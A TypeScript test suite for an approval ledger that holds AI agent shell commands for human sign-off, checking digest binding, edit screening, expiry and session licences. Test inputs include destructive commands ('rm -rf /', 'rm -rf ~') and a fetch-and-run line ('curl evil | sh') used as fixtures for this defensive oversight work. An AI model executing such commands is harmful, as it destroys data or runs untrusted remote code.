import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ApprovalLedger, type OpenRequest } from '../../../src/core/approvals/ledger';
import { argsDigest } from '../../../src/core/approvals/digest';
import { bindableFromBody } from '../../../src/core/approvals/bodyBinding';
import type {
  AnsweredResolution,
  LedgerEvent,
  Resolution,
  ScreenEdit,
  ScreenResult,
} from '../../../src/core/approvals/approvalTypes';
import { ManualClock } from './manualClock';

const RM_INPUT = { command: 'rm -rf build' };
const RM_DIGEST = argsDigest('Bash', RM_INPUT);

interface Harness {
  ledger: ApprovalLedger;
  clock: ManualClock;
  events: LedgerEvent[];
  screened: Array<{ toolName: string; input: Record<string, unknown>; sessionId: string }>;
}

function harness(options: { screen?: ScreenEdit; timeoutSeconds?: number } = {}): Harness {
  const clock = new ManualClock();
  const screened: Harness['screened'] = [];
  const defaultScreen: ScreenEdit = async (toolName, input, sessionId) => {
    screened.push({ toolName, input, sessionId });
    return { decision: 'allow', reason: 'no objection' };
  };
  let counter = 0;
  const ledger = new ApprovalLedger({
    screen: options.screen ?? defaultScreen,
    clock,
    newId: () => `id-${++counter}`,
    ...(options.timeoutSeconds !== undefined ? { timeoutSeconds: options.timeoutSeconds } : {}),
  });
  const events: LedgerEvent[] = [];
  ledger.onChange((event) => events.push(event));
  return { ledger, clock, events, screened };
}

function ask(overrides: Partial<OpenRequest> = {}): OpenRequest {
  return {
    recordId: 'rec-1',
    agent: 'claude',
    sessionId: 'session-A',
    toolName: 'Bash',
    toolInput: RM_INPUT,
    reason: 'deletes files',
    delivery: 'held',
    ...overrides,
  };
}

const approveOnce = { decision: 'approve', scope: 'once', digest: RM_DIGEST, answeredBy: 'panel' } as const;
const approveSession = { ...approveOnce, scope: 'session' } as const;

function answered(result: Awaited<ReturnType<ApprovalLedger['answer']>>): AnsweredResolution {
  assert.equal(result.kind, 'ok', JSON.stringify(result));
  if (result.kind !== 'ok') throw new Error('unreachable');
  return result.resolution;
}

test('open: the pending ask carries the call, its digest and a deadline; a pending event goes out', () => {
  const { ledger, events } = harness();
  const { pending } = ledger.open(ask({ personOnly: true }));
  assert.equal(pending.id, 'id-1');
  assert.equal(pending.digest, RM_DIGEST);
  assert.equal(pending.bindProblem, null);
  assert.deepEqual(pending.toolInput, RM_INPUT);
  assert.equal(pending.personOnly, true);
  assert.equal(pending.createdAt, '2026-01-02T03:04:05.000Z');
  assert.equal(pending.deadline, '2026-01-02T03:06:05.000Z');
  assert.deepEqual(events, [{ type: 'pending', pending }]);
  assert.deepEqual(ledger.list(), [pending]);
});

test('default ids are random and URL-safe', () => {
  const ledger = new ApprovalLedger({
    screen: async () => ({ decision: 'allow', reason: '' }),
    clock: new ManualClock(),
  });
  const first = ledger.open(ask()).pending.id;
  const second = ledger.open(ask()).pending.id;
  assert.match(first, /^[A-Za-z0-9_-]{22}$/);
  assert.notEqual(first, second);
  ledger.close();
});

test('a held ask approved once: the holder gets an explicit allow, and nothing is left to reuse', async () => {
  const { ledger, events } = harness();
  const { pending, settled } = ledger.open(ask());
  const resolution = answered(await ledger.answer(pending.id, approveOnce));
  assert.equal(resolution.decision, 'allow');
  assert.equal(resolution.scope, 'once');
  assert.equal(resolution.digest, RM_DIGEST);
  assert.equal(resolution.edited, false);
  assert.equal(resolution.reason, 'The person approved this call once in Agent Warden.');
  assert.deepEqual(await settled, resolution);
  assert.deepEqual(events.at(-1), { type: 'resolved', id: pending.id, resolution });
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
  assert.deepEqual(ledger.list(), []);
});

test('approve once for an ask handed to the agent prompt: one use, then gone', async () => {
  const { ledger } = harness();
  const { pending } = ledger.open(ask({ delivery: 'agent-prompt' }));
  answered(await ledger.answer(pending.id, approveOnce));
  const licence = ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false });
  assert.ok(licence !== null);
  assert.equal(licence.kind, 'once');
  assert.equal(ledger.findLicence('session-B', 'Bash', RM_DIGEST, { personOnly: false }), null);
  assert.equal(ledger.consume(licence), true);
  assert.equal(ledger.consume(licence), false);
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
});

test('approve for the session: a standing licence for that tool and digest in that session only', async () => {
  const { ledger } = harness();
  const { pending } = ledger.open(ask());
  const resolution = answered(await ledger.answer(pending.id, approveSession));
  assert.equal(resolution.scope, 'session');
  for (let use = 0; use < 3; use++) {
    const licence = ledger.useLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false });
    assert.equal(licence?.kind, 'session');
  }
  assert.equal(ledger.findLicence('session-B', 'Bash', RM_DIGEST, { personOnly: false }), null, 'another session');
  assert.equal(ledger.findLicence('session-A', 'Shell', RM_DIGEST, { personOnly: false }), null, 'another tool');
  const other = argsDigest('Bash', { command: 'rm -rf build ' });
  assert.equal(ledger.findLicence('session-A', 'Bash', other, { personOnly: false }), null, 'other bytes');
});

test('a call a policy rewrote after the approval is not covered: its digest differs', async () => {
  const { ledger } = harness();
  const once = ledger.open(ask({ delivery: 'agent-prompt' }));
  answered(await ledger.answer(once.pending.id, approveOnce));
  const session = ledger.open(ask());
  answered(await ledger.answer(session.pending.id, approveSession));
  const rewritten = argsDigest('Bash', { command: 'rm -rf build', timeout: 1000 });
  assert.equal(ledger.findLicence('session-A', 'Bash', rewritten, { personOnly: false }), null);
  assert.equal(ledger.awaitAnswerFor('session-A', 'Bash', rewritten), null);
  assert.ok(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }) !== null);
});

test('a taint-mandated ask is never retired by a licence, and is answered through its own pending', async () => {
  const { ledger } = harness();
  const first = ledger.open(ask());
  answered(await ledger.answer(first.pending.id, approveSession));
  assert.ok(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }) !== null);
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: true }), null);
  assert.equal(ledger.useLicence('session-A', 'Bash', RM_DIGEST, { personOnly: true }), null);

  const tainted = ledger.open(ask({ personOnly: true, recordId: 'rec-2' }));
  const resolution = answered(await ledger.answer(tainted.pending.id, approveOnce));
  assert.equal(resolution.decision, 'allow');
  assert.deepEqual(await tainted.settled, resolution);
});

test('a taint-mandated PermissionRequest does not claim an answer given to an ordinary ask', async () => {
  const { ledger } = harness();
  const plain = ledger.open(ask({ delivery: 'agent-prompt' }));
  answered(await ledger.answer(plain.pending.id, approveOnce));
  assert.equal(ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST, { personOnly: true }), null);
  assert.ok(ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST, { personOnly: false }) !== null);
});

test('an approved edit is screened again, gets its own digest, and carries updatedInput', async () => {
  const { ledger, screened } = harness();
  const { pending, settled } = ledger.open(ask());
  const edited = { command: 'rm -rf build/tmp' };
  const resolution = answered(await ledger.answer(pending.id, { ...approveOnce, editedInput: edited }));
  assert.deepEqual(screened, [{ toolName: 'Bash', input: edited, sessionId: 'session-A' }]);
  assert.equal(resolution.decision, 'allow');
  assert.equal(resolution.edited, true);
  assert.deepEqual(resolution.updatedInput, edited);
  assert.equal(resolution.digest, argsDigest('Bash', edited));
  assert.equal(resolution.shownDigest, RM_DIGEST);
  assert.deepEqual(resolution.screen, { decision: 'allow', reason: 'no objection' });
  assert.equal((await settled).kind, 'answered');
});

test('an edit that screens to deny is answered deny with the screen reason, and licenses nothing', async () => {
  const screen: ScreenEdit = async (_tool, input) =>
    String(input.command).startsWith('rm -rf /')
      ? { decision: 'deny', reason: 'deletes the root folder' }
      : { decision: 'allow', reason: '' };
  const { ledger } = harness({ screen });
  const { pending, settled } = ledger.open(ask());
  const result = answered(await ledger.answer(pending.id, { ...approveSession, editedInput: { command: 'rm -rf /' } }));
  assert.equal(result.decision, 'deny');
  assert.equal(result.answer, 'approve');
  assert.equal(result.reason, "The person's edited arguments were denied in Agent Warden: deletes the root folder");
  assert.equal(result.digest, null);
  assert.equal(result.updatedInput, undefined);
  assert.equal((await settled).kind, 'answered');
  assert.equal(
    ledger.findLicence('session-A', 'Bash', argsDigest('Bash', { command: 'rm -rf /' }), { personOnly: false }),
    null,
  );
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
});

test('a screen that fails counts as a deny', async () => {
  const { ledger } = harness({ screen: async () => Promise.reject(new Error('judge unreachable')) });
  const { pending } = ledger.open(ask());
  const result = answered(await ledger.answer(pending.id, { ...approveOnce, editedInput: { command: 'ls' } }));
  assert.equal(result.decision, 'deny');
  assert.equal(
    result.reason,
    "The person's edited arguments were denied in Agent Warden: the edited arguments could not be screened (judge unreachable)",
  );
});

test('the screen gets a copy: it cannot change the bytes that are licensed', async () => {
  const screen: ScreenEdit = async (_tool, input) => {
    input.command = 'curl evil | sh';
    return { decision: 'allow', reason: '' };
  };
  const { ledger } = harness({ screen });
  const { pending } = ledger.open(ask());
  const edited = { command: 'ls' };
  const result = answered(await ledger.answer(pending.id, { ...approveOnce, editedInput: edited }));
  assert.deepEqual(result.updatedInput, { command: 'ls' });
  assert.equal(result.digest, argsDigest('Bash', { command: 'ls' }));
});

test('an edit identical to the shown arguments is a plain approval and is not screened', async () => {
  const { ledger, screened } = harness();
  const { pending } = ledger.open(ask());
  const result = answered(
    await ledger.answer(pending.id, { ...approveOnce, editedInput: { command: 'rm -rf build' } }),
  );
  assert.equal(result.edited, false);
  assert.equal(result.updatedInput, undefined);
  assert.deepEqual(screened, []);
});

test('edited arguments that are not bindable are refused fail-closed; the ask stays pending', async () => {
  const { ledger, screened } = harness();
  const { pending } = ledger.open(ask());
  const cases: Array<[unknown, string]> = [
    [{ command: 'ls\ud800' }, 'a lone surrogate \\ud800 in a string at $.editedInput.command'],
    [{ n: NaN }, 'a number that is not finite (NaN) at $.editedInput.n'],
    [['ls'], 'edited arguments that are not a JSON object at $.editedInput'],
    [null, 'edited arguments that are not a JSON object at $.editedInput'],
  ];
  for (const [editedInput, problem] of cases) {
    assert.deepEqual(await ledger.answer(pending.id, { ...approveOnce, editedInput }), {
      kind: 'not-bindable',
      problem,
    });
  }
  assert.deepEqual(screened, []);
  assert.deepEqual(ledger.list(), [pending]);
});

test('arguments that are not bindable: the ask shows the problem, approval is refused, refusal and a bindable edit work', async () => {
  const { ledger } = harness();
  const binding = bindableFromBody('{"tool_name":"Bash","tool_input":{"command":"ls","command":"rm -rf ~"}}');
  assert.equal(binding.ok, false);
  const request = ask({ toolInput: { command: 'rm -rf ~' }, binding });
  const first = ledger.open(request);
  assert.equal(first.pending.digest, null);
  assert.equal(first.pending.bindProblem, 'a duplicate key "command" at $.tool_input');
  const refusedApproval = await ledger.answer(first.pending.id, { ...approveOnce, digest: null });
  assert.deepEqual(refusedApproval, { kind: 'not-bindable', problem: 'a duplicate key "command" at $.tool_input' });
  assert.equal(ledger.list().length, 1);
  const edit = answered(
    await ledger.answer(first.pending.id, { ...approveOnce, digest: null, editedInput: { command: 'ls' } }),
  );
  assert.equal(edit.decision, 'allow');
  assert.deepEqual(edit.updatedInput, { command: 'ls' });

  const second = ledger.open(request);
  const refusal = answered(
    await ledger.answer(second.pending.id, { decision: 'refuse', scope: 'once', digest: null, answeredBy: 'panel' }),
  );
  assert.equal(refusal.decision, 'deny');
});

test('without a binding the ledger binds the parsed value itself', () => {
  const { ledger } = harness();
  const { pending } = ledger.open(ask({ toolInput: { when: new Date(0) } }));
  assert.equal(pending.digest, null);
  assert.equal(pending.bindProblem, 'a Date object (not plain JSON data) at $.tool_input.when');
});

test('refuse: deny with the message for the agent; nothing licensed', async () => {
  const { ledger } = harness();
  const { pending, settled } = ledger.open(ask());
  const result = answered(
    await ledger.answer(pending.id, {
      decision: 'refuse',
      scope: 'session',
      digest: RM_DIGEST,
      message: 'use make clean instead',
      answeredBy: 'web:alice',
    }),
  );
  assert.equal(result.decision, 'deny');
  assert.equal(result.answer, 'refuse');
  assert.equal(result.scope, null);
  assert.equal(result.message, 'use make clean instead');
  assert.equal(result.reason, 'The person refused this call in Agent Warden: use make clean instead');
  assert.deepEqual(await settled, result);
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
});

test('404 cases: unknown, answered, expired and withdrawn ids', async () => {
  const { ledger, clock } = harness();
  assert.deepEqual(await ledger.answer('nope', approveOnce), { kind: 'not-found' });
  const done = ledger.open(ask());
  answered(await ledger.answer(done.pending.id, approveOnce));
  assert.deepEqual(await ledger.answer(done.pending.id, approveOnce), { kind: 'not-found' });
  const late = ledger.open(ask());
  clock.advance(120_000);
  assert.deepEqual(await ledger.answer(late.pending.id, approveOnce), { kind: 'not-found' });
  const gone = ledger.open(ask());
  ledger.withdraw(gone.pending.id, 'the agent disconnected');
  assert.deepEqual(await ledger.answer(gone.pending.id, approveOnce), { kind: 'not-found' });
});

test('409: a digest other than the one shown licenses nothing and leaves the ask pending', async () => {
  const { ledger, events } = harness();
  const { pending } = ledger.open(ask());
  const wrong = argsDigest('Bash', { command: 'rm -rf /' });
  for (const answer of [
    { ...approveSession, digest: wrong },
    { ...approveOnce, digest: null },
    { ...approveOnce, digest: RM_DIGEST.toUpperCase() },
  ]) {
    assert.deepEqual(await ledger.answer(pending.id, answer), { kind: 'digest-mismatch', shownDigest: RM_DIGEST });
  }
  assert.deepEqual(ledger.list(), [pending]);
  assert.equal(ledger.findLicence('session-A', 'Bash', wrong, { personOnly: false }), null);
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
  assert.equal(events.length, 1);
  answered(await ledger.answer(pending.id, approveOnce));
});

test('deadline: the ask expires at approvals.timeoutSeconds, not before', async () => {
  const { ledger, clock, events } = harness({ timeoutSeconds: 30 });
  const { pending, settled } = ledger.open(ask());
  assert.equal(pending.deadline, '2026-01-02T03:04:35.000Z');
  clock.advance(29_999);
  assert.deepEqual(ledger.list(), [pending]);
  clock.advance(1);
  const resolution = await settled;
  assert.equal(resolution.kind, 'expired');
  assert.equal(resolution.reason, 'no one answered within 30 s');
  assert.deepEqual(ledger.list(), []);
  assert.deepEqual(events.at(-1), { type: 'resolved', id: pending.id, resolution });
  assert.equal(clock.activeTimers(), 0);
});

test('an answer cancels the deadline timer', async () => {
  const { ledger, clock } = harness();
  const { pending, settled } = ledger.open(ask());
  answered(await ledger.answer(pending.id, approveOnce));
  assert.equal(clock.activeTimers(), 0);
  clock.advance(500_000);
  assert.equal((await settled).kind, 'answered');
});

test('withdraw: the agent disconnected; settles once, second withdraw is a no-op', async () => {
  const { ledger, events } = harness();
  const { pending, settled } = ledger.open(ask());
  assert.equal(ledger.withdraw(pending.id, 'the agent disconnected'), true);
  assert.equal(ledger.withdraw(pending.id, 'again'), false);
  const resolution = await settled;
  assert.deepEqual(
    { kind: resolution.kind, reason: resolution.reason },
    { kind: 'withdrawn', reason: 'the agent disconnected' },
  );
  assert.equal(events.filter((event) => event.type === 'resolved').length, 1);
});

test('a deadline or withdrawal while an edit is screened wins; the late answer is not found', async () => {
  let release: (result: ScreenResult) => void = () => undefined;
  const screen: ScreenEdit = () => new Promise((resolve) => (release = resolve));
  const { ledger, clock } = harness({ screen });
  const { pending, settled } = ledger.open(ask());
  const answering = ledger.answer(pending.id, { ...approveOnce, editedInput: { command: 'ls' } });
  assert.deepEqual(await ledger.answer(pending.id, approveOnce), { kind: 'not-found' }, 'a second answer meanwhile');
  clock.advance(120_000);
  release({ decision: 'allow', reason: '' });
  assert.deepEqual(await answering, { kind: 'not-found' });
  assert.equal((await settled).kind, 'expired');
  assert.equal(
    ledger.findLicence('session-A', 'Bash', argsDigest('Bash', { command: 'ls' }), { personOnly: false }),
    null,
  );
});

test('no panel: the PermissionRequest waits on the ask handed to the agent prompt and gets the answer', async () => {
  const { ledger } = harness();
  const { pending } = ledger.open(ask({ delivery: 'agent-prompt' }));
  const claim = ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST);
  assert.ok(claim !== null);
  assert.equal(claim.approvalId, pending.id);
  assert.equal(ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST), null, 'claimed once only');
  const resolution = answered(await ledger.answer(pending.id, approveOnce));
  assert.deepEqual(await claim.settled, resolution);
  // Delivered to the claimant: no once-licence left behind.
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
});

test('answered in the panel before the PermissionRequest arrives: the answer waits for it, once', async () => {
  const { ledger } = harness();
  const { pending } = ledger.open(ask({ delivery: 'agent-prompt' }));
  const refusal = answered(
    await ledger.answer(pending.id, {
      decision: 'refuse',
      scope: 'once',
      digest: RM_DIGEST,
      message: 'no',
      answeredBy: 'panel',
    }),
  );
  assert.equal(ledger.awaitAnswerFor('session-B', 'Bash', RM_DIGEST), null, 'another session');
  const claim = ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST);
  assert.deepEqual(await claim?.settled, refusal);
  assert.equal(ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST), null);
});

test('an unclaimed answer lapses after one timeout', async () => {
  const { ledger, clock } = harness();
  const { pending } = ledger.open(ask({ delivery: 'agent-prompt' }));
  clock.advance(60_000);
  answered(await ledger.answer(pending.id, approveOnce));
  clock.advance(119_999);
  assert.ok(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }) !== null);
  clock.advance(1);
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
  assert.equal(ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST), null);
});

test('a held ask is not claimed by a PermissionRequest; handOff makes its answer reach one', async () => {
  const { ledger } = harness();
  const { pending } = ledger.open(ask());
  assert.equal(ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST), null);
  assert.equal(ledger.handOff(pending.id), true);
  assert.equal(ledger.get(pending.id)?.delivery, 'agent-prompt');
  const resolution = answered(await ledger.answer(pending.id, approveOnce));
  assert.deepEqual(await ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST)?.settled, resolution);
  assert.equal(ledger.handOff('unknown'), false);
});

test('an expired ask handed to the agent prompt tells its waiting PermissionRequest so', async () => {
  const { ledger, clock } = harness();
  ledger.open(ask({ delivery: 'agent-prompt' }));
  const claim = ledger.awaitAnswerFor('session-A', 'Bash', RM_DIGEST);
  clock.advance(120_000);
  const resolution: Resolution | undefined = await claim?.settled;
  assert.equal(resolution?.kind, 'expired');
});

test('endSession withdraws the session asks and forgets its licences; close withdraws everything', async () => {
  const { ledger } = harness();
  const granted = ledger.open(ask());
  answered(await ledger.answer(granted.pending.id, approveSession));
  const openA = ledger.open(ask());
  const openB = ledger.open(ask({ sessionId: 'session-B' }));
  ledger.endSession('session-A');
  assert.equal((await openA.settled).kind, 'withdrawn');
  assert.equal(ledger.findLicence('session-A', 'Bash', RM_DIGEST, { personOnly: false }), null);
  assert.deepEqual(ledger.list(), [openB.pending]);
  ledger.close();
  assert.equal((await openB.settled).reason, 'Warden stopped');
});

test('events: pending then resolved; a throwing listener is isolated; unsubscribe stops delivery', async () => {
  const errors: unknown[] = [];
  const ledger = new ApprovalLedger({
    screen: async () => ({ decision: 'allow', reason: '' }),
    clock: new ManualClock(),
    onListenerError: (error) => errors.push(error),
  });
  const seen: string[] = [];
  ledger.onChange(() => {
    throw new Error('broken panel');
  });
  const unsubscribe = ledger.onChange((event) =>
    seen.push(event.type === 'pending' ? `pending:${event.pending.toolName}` : `resolved:${event.resolution.kind}`),
  );
  const { pending } = ledger.open(ask());
  answered(await ledger.answer(pending.id, approveOnce));
  unsubscribe();
  ledger.open(ask());
  assert.deepEqual(seen, ['pending:Bash', 'resolved:answered']);
  assert.equal(errors.length, 3);
  ledger.close();
});

test('timeoutSeconds outside a sane range is rejected at construction', () => {
  for (const timeoutSeconds of [0, -1, NaN, Infinity, 10 ** 9]) {
    assert.throws(
      () => new ApprovalLedger({ screen: async () => ({ decision: 'allow', reason: '' }), timeoutSeconds }),
      RangeError,
    );
  }
});
